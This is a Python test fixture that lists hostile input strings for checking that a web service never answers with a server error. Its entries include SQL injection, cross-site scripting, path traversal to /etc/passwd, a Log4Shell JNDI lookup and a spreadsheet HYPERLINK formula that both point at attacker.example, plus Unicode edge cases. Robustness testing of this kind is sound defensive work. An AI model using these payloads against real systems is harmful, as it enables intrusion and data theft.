"""Texts that somebody may send to break something. No answer to any of them may be a server error."""

from pathlib import Path

HOSTILE = (
    "",
    " ",
    "\0",
    "Mia\0Lindqvist",
    "a" * 1_000_000,
    "\U0001f600" * 100_000,
    "\ud800",
    "line\nbreak",
    "carriage\rreturn",
    "bell\x07",
    "\x1b[31mred\x1b[0m",
    "\u202egnirts desrever",
    "\u2028",
    "\ufeff",
    "\u200b",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324" * 20,
    "'; DROP TABLE accounts_user; --",
    "\\",
    "%s%s%s%n",
    "{0.__class__}",
    "{{ 7 * 7 }}",
    "${jndi:ldap://attacker.example/a}",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "../../../../etc/passwd",
    '=HYPERLINK("http://attacker.example")',
    "1e400",
    "NaN",
    "null",
    "true",
    "0x7fffffffffffffff",
    "9" * 5_000,
    "\u212aurt@uni.example",
    "\u0130stanbul",
)
# A longer list that lies beside the checkout on machines of the project.
MORE = Path(__file__).parents[2] / "shared/samples/attacks/naughty-strings.txt"


def many_hostile() -> list[str]:
    """Takes seconds to send over HTTP, where ``HOSTILE`` is quick."""
    more = MORE.read_text("utf-8").splitlines() if MORE.exists() else []
    return [*HOSTILE, *more]
